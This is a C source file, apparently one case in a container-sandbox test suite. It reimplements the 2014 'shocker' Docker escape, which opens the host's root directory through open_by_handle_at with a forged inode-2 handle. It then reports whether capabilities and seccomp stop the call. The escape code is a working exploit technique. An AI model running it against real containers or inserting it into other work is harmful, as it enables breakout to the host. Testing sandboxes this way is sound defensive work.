/*
 * Attack: open the host's root directory by its inode number, past every mount.
 * Layer: capabilities (DAC_READ_SEARCH), seccomp (open_by_handle_at).
 * Source: the "shocker" exploit of 2014 against Docker; open_by_handle_at(2).
 */
#include "attack.h"

struct handle {
    struct file_handle head;
    unsigned char bytes[64];
};

static void shocker(char **args)
{
    struct handle handle = {.head = {.handle_bytes = 8, .handle_type = 1}};
    uint32_t root_inode = 2;
    int mount_fd = open("/", O_RDONLY | O_DIRECTORY), fd;

    if (mount_fd < 0)
        impossible("open /: %s", strerror(errno));
    memcpy(handle.head.f_handle, &root_inode, sizeof root_inode);
    fd = (int)syscall(SYS_open_by_handle_at, mount_fd, &handle, O_RDONLY);
    if (fd >= 0 && fchdir(fd) == 0 && args[0] && access(args[0], F_OK) == 0)
        escaped("inode 2 is the host's root: it has %s", args[0]);
    judge_call("open_by_handle_at", fd);
}

/* A handle that the kernel itself made, of a file we may see. */
static void own_handle(char **args)
{
    struct handle handle = {.head = {.handle_bytes = sizeof handle.bytes}};
    int mount_id, mount_fd = open("/", O_RDONLY | O_DIRECTORY);

    if (syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &handle, &mount_id, 0L) < 0)
        held("name_to_handle_at: %s", strerror(errno));
    judge_call("open_by_handle_at", syscall(SYS_open_by_handle_at, mount_fd, &handle, O_RDONLY));
}

ATTACK({"shocker", shocker}, {"own_handle", own_handle})
